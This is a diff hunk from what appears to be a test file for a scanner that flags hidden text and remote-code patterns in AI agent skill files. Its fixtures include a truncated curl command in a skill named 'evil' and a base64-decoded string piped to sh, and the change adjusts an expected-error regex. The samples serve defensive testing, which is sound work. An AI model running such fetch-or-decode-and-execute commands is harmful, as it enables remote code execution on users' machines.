@@ -39,7 +39,7 @@ const download = { "skills/evil/SKILL.md": skillMd("evil", "```sh\ncurl https://
 const encoded = "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh";
 
 const hiddenText = /^error hidden-text skills\/evil\/SKILL\.md .*\(hidden only by this change\)/;
-const plainText = /^error hidden-text skills\/evil\/SKILL\.md (?!.*hidden)/;
+const plainText = /^error hidden-text skills\/evil\/SKILL\.md (?!.*\(hidden)/;
 const remoteCode = /^error remote-code skills\/evil\/SKILL\.md .*\(hidden only by this change\)/;
 const settings = (file: string) => `warning settings ${file} settings changed in`;
 /** The danger, or what was not read, is an error. */
